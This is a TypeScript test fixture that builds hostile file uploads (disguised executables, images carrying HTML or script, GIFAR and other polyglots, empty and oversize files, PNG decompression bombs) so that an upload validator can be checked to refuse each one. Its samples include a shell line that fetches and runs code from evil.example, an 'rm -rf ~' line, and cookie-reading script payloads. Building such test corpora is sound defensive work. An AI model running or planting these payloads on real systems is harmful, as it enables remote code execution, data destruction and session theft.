/**
 * Hostile uploads, built in code: renamed executables, markup disguised as pictures, polyglots,
 * empty and oversize files, decompression bombs. Every one must be refused for every purpose.
 * (Escaped-name and other active-content PDFs live in upload-corpus.ts.)
 */
import { deflateSync } from 'node:zlib';
import { exe, html, jpeg, ofd, png, svgWithScript, webp, zip, zipOf } from './upload-corpus.js';

export interface HostileUpload {
  /** What the file is, for the test name. */
  label: string;
  fileName: string;
  data: Buffer;
}

const text = (s: string) => Buffer.from(s, 'utf8');
const padded = (head: Buffer, size = 512) => Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length))]);

/** The start of a 64-bit Linux executable. */
function elf(): Buffer {
  const data = Buffer.alloc(512);
  data.write('\x7fELF', 0, 'latin1');
  data[4] = 2; // 64-bit
  data[5] = 1; // little-endian
  data[6] = 1; // version
  data.writeUInt16LE(2, 16); // executable
  data.writeUInt16LE(0x3e, 18); // x86-64
  return data;
}

/** The start of a 64-bit macOS executable (MH_MAGIC_64, little-endian). */
const machO = () => padded(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01, 0x03, 0x00, 0x00, 0x00]));
/** A universal (fat) macOS binary, whose magic Java class files share. */
const machOFat = () => padded(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x02]));

const GIF_HEADER = Buffer.from(
  'GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
  'latin1',
);

const SCRIPT = '<html><body><script>alert(document.cookie)</script></body></html>';

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), body])), 0);
  return Buffer.concat([head, body, crc]);
}

/**
 * A well-formed 1-bit greyscale PNG of width × height, all black: a few kilobytes that decode
 * to width × height pixels (a decompression bomb when large). `rows` limits the rows actually
 * encoded, for a header that promises more than the data holds.
 */
export function pngOfSize(width: number, height: number, rows = height): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Buffer.alloc(1 + Math.ceil(width / 8)); // filter byte 0, then zero bits
  const raw = Buffer.alloc(row.length * rows);
  const idat = deflateSync(raw, { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A PNG with an extra chunk before IEND (e.g. tEXt carrying markup). */
async function pngWithChunk(type: string, body: Buffer): Promise<Buffer> {
  const picture = await png();
  const iend = picture.length - 12;
  return Buffer.concat([picture.subarray(0, iend), pngChunk(type, body), picture.subarray(iend)]);
}

/** A JPEG with a comment segment (COM, FF FE) right after SOI. */
async function jpegWithComment(comment: string): Promise<Buffer> {
  const picture = await jpeg();
  const body = text(comment);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([picture.subarray(0, 2), segment, body, picture.subarray(2)]);
}

/** A picture whose scale factor is the megapixels it would decode to. */
export const BOMB_MEGAPIXELS = 56;

/** Every hostile upload; `maxBytes` is the app's MAX_UPLOAD_BYTES. */
export async function hostileUploads(maxBytes: number): Promise<HostileUpload[]> {
  const [picture, photo, webpPicture] = await Promise.all([png(), jpeg(), webp()]);
  return [
    // Renamed executables
    { label: 'ELF executable as .pdf', fileName: 'licence.pdf', data: elf() },
    { label: 'ELF executable as .png', fileName: 'logo.png', data: elf() },
    { label: 'Windows PE (MZ) as .jpg', fileName: 'photo.jpg', data: exe() },
    { label: 'Windows PE (MZ) with no extension', fileName: 'licence', data: exe() },
    { label: 'Mach-O executable as .png', fileName: 'logo.png', data: machO() },
    { label: 'Mach-O universal binary as .pdf', fileName: 'licence.pdf', data: machOFat() },
    {
      label: 'shell script (#!) as .pdf',
      fileName: 'licence.pdf',
      data: text('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'),
    },
    { label: 'shell script (#!) as .jpg', fileName: 'photo.jpg', data: text('#!/usr/bin/env bash\nrm -rf ~\n') },
    // Markup and script as pictures
    { label: 'HTML as .png', fileName: 'photo.png', data: html() },
    { label: 'HTML as .jpg', fileName: 'photo.jpg', data: html() },
    { label: 'SVG with script as .png', fileName: 'logo.png', data: svgWithScript() },
    { label: 'SVG with script as .svg', fileName: 'logo.svg', data: svgWithScript() },
    {
      label: 'JavaScript as .jpg',
      fileName: 'photo.jpg',
      data: text('fetch("/api/account").then(r=>r.text()).then(alert)//'),
    },
    { label: 'XHTML as .webp', fileName: 'photo.webp', data: text(`<?xml version="1.0"?>${SCRIPT}`) },
    // Polyglots
    { label: 'GIFAR (GIF + JAR archive) as .png', fileName: 'logo.png', data: Buffer.concat([GIF_HEADER, zip()]) },
    { label: 'GIFAR (GIF + JAR archive) as .gif', fileName: 'logo.gif', data: Buffer.concat([GIF_HEADER, zip()]) },
    // OFD (domestic invoices) is a ZIP with OFD.xml at its root; no other ZIP passes as one.
    { label: 'ZIP without OFD.xml as .ofd', fileName: 'invoice.ofd', data: zip() },
    { label: 'ZIP with OFD.xml below the root as .ofd', fileName: 'invoice.ofd', data: zipOf({ 'a/OFD.xml': '<x/>' }) },
    { label: 'OFD with HTML appended', fileName: 'invoice.ofd', data: Buffer.concat([ofd(), text(SCRIPT)]) },
    { label: 'GIF + OFD as .ofd', fileName: 'invoice.ofd', data: Buffer.concat([GIF_HEADER, ofd()]) },
    { label: 'JPEG with HTML appended', fileName: 'photo.jpg', data: Buffer.concat([photo, text(SCRIPT)]) },
    { label: 'JPEG with a script in a comment segment', fileName: 'photo.jpg', data: await jpegWithComment(SCRIPT) },
    { label: 'JPEG with a ZIP archive appended', fileName: 'photo.jpg', data: Buffer.concat([photo, zip()]) },
    { label: 'PNG with a ZIP archive appended', fileName: 'logo.png', data: Buffer.concat([picture, zip()]) },
    { label: 'PNG with HTML appended', fileName: 'logo.png', data: Buffer.concat([picture, text(SCRIPT)]) },
    {
      label: 'PNG with a script in a tEXt chunk',
      fileName: 'logo.png',
      data: await pngWithChunk('tEXt', text(`Comment\0${SCRIPT}`)),
    },
    { label: 'WebP with HTML appended', fileName: 'photo.webp', data: Buffer.concat([webpPicture, text(SCRIPT)]) },
    // Empty and oversize
    { label: 'zero bytes as .pdf', fileName: 'licence.pdf', data: Buffer.alloc(0) },
    { label: 'zero bytes as .png', fileName: 'logo.png', data: Buffer.alloc(0) },
    { label: 'one byte over MAX_UPLOAD_BYTES', fileName: 'logo.png', data: padded(picture, maxBytes + 1) },
    // Decompression bombs
    {
      label: `PNG of ${BOMB_MEGAPIXELS} megapixels in a few kilobytes`,
      fileName: 'logo.png',
      data: pngOfSize(8_000, 7_000),
    },
    {
      label: 'PNG header declaring 100 000 × 100 000 pixels',
      fileName: 'logo.png',
      data: pngOfSize(100_000, 100_000, 8),
    },
    { label: 'PNG header declaring 2³¹−1 × 1 pixels', fileName: 'logo.png', data: pngOfSize(2 ** 31 - 1, 1, 0) },
  ];
}
